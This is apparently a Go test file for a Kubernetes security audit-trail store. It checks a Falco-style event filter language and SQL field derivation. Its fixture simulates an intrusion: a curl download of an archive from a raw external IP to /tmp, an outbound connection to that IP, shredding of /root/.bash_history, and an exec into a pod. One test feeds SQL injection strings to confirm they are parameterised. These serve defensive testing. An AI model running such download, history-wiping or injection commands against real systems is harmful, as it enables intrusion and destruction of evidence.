package duckdb

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/kubetrail/kubetrail"
	"github.com/kubetrail/kubetrail/filter"
)

// fixture stores a small trail covering every category and returns it.
func fixture(t *testing.T) (*Store, []kubetrail.Event) {
	t.Helper()
	s, _ := openTest(t)
	curl := procEvent("s1", 1, t0, "billing", "api-1", "curl", "curl", "-sSLo", "/tmp/x.tgz", "http://185.220.101.47/x.tgz")
	bash := procEvent("s1", 2, t0.Add(time.Second), "billing", "api-1", "bash", "bash")
	bash.Process.TTY = 34816
	host := procEvent("s2", 1, t0.Add(2*time.Second), "", "", "tcpdump", "tcpdump", "-i", "any")
	host.ContainerID, host.ContainerName, host.ImageRepository, host.ImageTag, host.WorkloadKind, host.WorkloadName, host.PodUID = "", "", "", "", "", "", ""
	host.Node = "node-2"
	conn := procEvent("s1", 3, t0.Add(3*time.Second), "billing", "api-1", "curl")
	conn.Category, conn.Type = kubetrail.CategoryNetwork, "connect"
	conn.Network = kubetrail.Network{L4Proto: "tcp", Direction: "outbound", ClientIP: "10.244.1.7", ClientPort: 40112, ServerIP: "185.220.101.47", ServerPort: 80, PeerKind: "unknown"}
	in := procEvent("s1", 4, t0.Add(4*time.Second), "payments", "db-0", "postgres")
	in.Category, in.Type = kubetrail.CategoryNetwork, "accept"
	in.Network = kubetrail.Network{L4Proto: "tcp", Direction: "inbound", ClientIP: "10.244.1.7", ClientPort: 40113, ServerIP: "10.244.2.9", ServerPort: 5432, PeerKind: "pod", PeerNamespace: "billing", PeerName: "api-1"}
	file := procEvent("s1", 5, t0.Add(5*time.Second), "billing", "api-1", "shred")
	file.Category, file.Type = kubetrail.CategoryFile, "unlink"
	file.File = kubetrail.File{Path: "/root/.bash_history"}
	audit := kubetrail.Event{Time: t0.Add(-time.Second), Category: kubetrail.CategoryK8s, Type: "get", Cluster: "c1", Namespace: "billing", PodName: "api-1", ContainerName: "app",
		Audit: kubetrail.Audit{AuditID: "a1", Stage: "ResponseComplete", UserName: "john.doe", UserGroups: []string{"devs", "system:authenticated"}, Verb: "get",
			URI: "/api/v1/namespaces/billing/pods/api-1/exec?command=bash", Resource: "pods", Subresource: "exec", TargetNamespace: "billing", TargetName: "api-1",
			SourceIPs: []string{"66.249.64.55"}, ResponseCode: 101, ExecCommand: []string{"bash"}, ExecContainer: "app"}}
	// Policy events on a command in a container, one on the host and a request.
	polCurl := policyOn(curl, "runtime", "Download to /tmp", "WARNING", "mitre_execution", "T1105")
	polHost := policyOn(host, "runtime", "Packet capture on host", "NOTICE")
	polAudit := policyOn(audit, "k8s", "Exec into pod", "NOTICE", "mitre_execution")
	events := []kubetrail.Event{curl, bash, host, conn, in, file, audit, polCurl, polHost, polAudit}
	if _, err := s.Write(context.Background(), events); err != nil {
		t.Fatal(err)
	}
	return s, events
}

func TestFilterSemantics(t *testing.T) {
	s, events := fixture(t)
	polCurl, polHost, polAudit := events[7].ID(), events[8].ID(), events[9].ID()
	cases := []struct {
		filter string
		want   []string // event ids, any order
	}{
		{"", []string{"s1/1", "s1/2", "s2/1", "s1/3", "s1/4", "s1/5", "audit/a1", polCurl, polHost, polAudit}},
		{"proc.name = tcpdump", []string{"s2/1"}},
		{"proc.name = tcpdump and evt.is_host = 1", []string{"s2/1"}},
		{"evt.is_host = 0 and evt.category = process", []string{"s1/1", "s1/2"}},
		{"k8s.ns.name = billing and net.direction = outbound and net.peer.kind = unknown", []string{"s1/3"}},
		{"ka.user.name = john.doe", []string{"audit/a1", polAudit}},
		{"k8s.ns.name = billing and evt.category = k8s", []string{"audit/a1"}},
		{"k8s.ns.name != billing", []string{"s1/4"}},                                  // the host event has no namespace: false, as in Falco
		{"not k8s.ns.name = billing", []string{"s2/1", "s1/4", polHost}},              // ...but its negation is true
		{"not proc.name = curl and evt.category = process", []string{"s1/2", "s2/1"}}, // NOT over a present field
		{"not fd.sip = 185.220.101.47", []string{"s1/1", "s1/2", "s2/1", "s1/4", "s1/5", "audit/a1", polCurl, polHost, polAudit}},
		{"proc.name in (bash, shred)", []string{"s1/2", "s1/5"}},
		{"proc.cmdline contains 185.220", []string{"s1/1"}},
		{"proc.cmdline icontains X.TGZ", []string{"s1/1"}},
		{"proc.args startswith -sSLo", []string{"s1/1"}},
		{"proc.exe = curl and evt.category = process", []string{"s1/1"}},
		{"fd.name endswith .bash_history", []string{"s1/5"}},
		{"fd.filename = .bash_history and fd.directory = /root", []string{"s1/5"}},
		{"fd.name = 10.244.1.7:40112->185.220.101.47:80", []string{"s1/3"}},
		{"fd.rip = 10.244.1.7 and fd.lport = 5432", []string{"s1/4"}},
		{"fd.lip = 10.244.1.7 and fd.rport = 80", []string{"s1/3"}},
		{"fd.sport >= 1000 and fd.sport < 6000", []string{"s1/4"}},
		{"ka.user.groups = devs", []string{"audit/a1", polAudit}},
		{"ka.user.groups intersects (admins, devs)", []string{"audit/a1", polAudit}},
		{"ka.user.groups in (admins)", nil},
		{"ka.user.groups startswith system:", []string{"audit/a1", polAudit}},
		{"ka.user.groups glob 'sys*'", []string{"audit/a1", polAudit}},
		{"ka.sourceips contains 66.249", []string{"audit/a1", polAudit}},
		{"ka.exec.command = bash and ka.response.code = 101", []string{"audit/a1"}},
		{"proc.tty exists and proc.tty > 0", []string{"s1/2"}},
		{"fs.path.target exists", nil},
		{"container.image = registry.example.com/api:1.0 and evt.category = file", []string{"s1/5"}},
		{"container.image glob 'registry.example.com/*'", []string{"s1/1", "s1/2", "s1/3", "s1/4", "s1/5", polCurl}},
		{"k8s.pod.name exists and evt.category = k8s", []string{"audit/a1"}},
		{"evt.source = k8s_audit", []string{"audit/a1", polAudit}},
		{"evt.id = s1/3", []string{"s1/3"}},
		{fmt.Sprintf("evt.time >= %s and evt.time < %s", t0.Add(time.Second).Format(time.RFC3339Nano), t0.Add(3*time.Second).Format(time.RFC3339Nano)), []string{"s1/2", "s2/1", polHost}},
		{"(proc.name = bash or proc.name = tcpdump) and not evt.is_host = 1", []string{"s1/2"}},
		// Policy events: their own fields, their trigger's scope, no process.
		{"evt.category = policy", []string{polCurl, polHost, polAudit}},
		{"policy.rule = 'Download to /tmp'", []string{polCurl}},
		{"policy.tags = T1105", []string{polCurl}},
		{"policy.tags = mitre_execution and policy.name = k8s", []string{polAudit}},
		{"policy.priority in (WARNING, ERROR)", []string{polCurl}},
		{"policy.trigger = audit/a1", []string{polAudit}},
		{"policy.output contains tcpdump", []string{polHost}},
		{"evt.id = " + polCurl, []string{polCurl}},
		{"evt.type = execve", []string{"s1/1", "s1/2", "s2/1", polCurl, polHost}},
		{"evt.is_host = 1", []string{"s2/1", polHost}},
		{"evt.is_host = 0 and evt.category = policy", []string{polCurl}}, // a request happened on no node
		{"evt.source = syscall and evt.category = policy", []string{polCurl, polHost}},
		{"k8s.node.name = node-2", []string{"s2/1", polHost}},
		{"container.id = abc123 and evt.category = policy", []string{polCurl}},
		{"proc.name = curl", []string{"s1/1", "s1/3"}},
		{"proc.name exists and evt.category = policy", nil},
		{"not proc.name = curl and evt.category = policy", []string{polCurl, polHost, polAudit}}, // a missing field, negated, as on a request
	}
	for _, c := range cases {
		t.Run(c.filter, func(t *testing.T) {
			expr, err := filter.Parse(c.filter)
			if err != nil {
				t.Fatal(err)
			}
			page, err := s.Search(context.Background(), kubetrail.SearchQuery{Filter: expr, Limit: 100})
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, e := range page.Events {
				got = append(got, e.ID())
			}
			want := slices.Clone(c.want)
			slices.Sort(got)
			slices.Sort(want)
			if !slices.Equal(got, want) {
				t.Fatalf("got %v, want %v", got, want)
			}
		})
	}
}

// Every derived field computes the same in SQL as in Go, on every event.
func TestDerivedFieldsMatchGo(t *testing.T) {
	s, events := fixture(t)
	for i := range kubetrail.Fields {
		f := &kubetrail.Fields[i]
		if !f.Derived {
			continue
		}
		expr, err := fieldSQL(f.Name)
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		for _, e := range events {
			if !f.AppliesTo(e.Category) {
				continue
			}
			id := e.ID()
			var got any
			q := fmt.Sprintf(`SELECT %s FROM events LEFT JOIN scopes ON scopes.id = scope_id LEFT JOIN processes ON processes.id = proc_id WHERE %s = ?`, expr, derivedSQL["evt.id"])
			if err := s.db.QueryRow(q, id).Scan(&got); err != nil {
				t.Fatalf("%s of %s: %v", f.Name, id, err)
			}
			want := f.Get(&e)
			if got == nil {
				got = zeroOf(want)
			}
			if fmt.Sprint(got) != fmt.Sprint(want) {
				t.Errorf("%s of %s: SQL %q, Go %q", f.Name, id, got, want)
			}
		}
	}
}

func zeroOf(v any) any {
	switch v.(type) {
	case int64:
		return int64(0)
	}
	return ""
}

// Filter values are parameters, never SQL text.
func TestFilterValuesAreNotSQL(t *testing.T) {
	s, _ := fixture(t)
	for _, f := range []string{`proc.name = "x' OR 1=1 --"`, `proc.name in ("a'); DROP TABLE events; --")`, `k8s.ns.name = "'"`} {
		expr, err := filter.Parse(f)
		if err != nil {
			t.Fatal(err)
		}
		sqlText, args, err := compile(expr)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(sqlText, "OR 1=1") || strings.Contains(sqlText, "DROP") || len(args) == 0 {
			t.Fatalf("value spliced into SQL: %s", sqlText)
		}
		page, err := s.Search(context.Background(), kubetrail.SearchQuery{Filter: expr})
		if err != nil || len(page.Events) != 0 {
			t.Fatalf("%s: %v %d", f, err, len(page.Events))
		}
	}
}
